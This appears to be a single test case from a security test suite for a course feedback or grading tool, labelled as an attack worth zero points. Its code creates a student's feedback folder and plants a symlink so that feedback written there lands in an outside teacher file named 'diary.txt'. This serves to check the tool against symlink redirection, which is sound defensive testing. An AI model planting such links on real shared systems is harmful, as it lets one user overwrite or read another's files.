# /// attack
# tries = "Makes a link where its feedback will be written, to a file of the teacher's."
# points = 0
# ///
# %% before count
from pathlib import Path

folder = Path(bait["course"], "feedback", bait["me"], bait["slug"])
folder.mkdir(parents=True)
(folder / f"{bait['slug']}.html").symlink_to(f"{bait['outside']}/diary.txt")
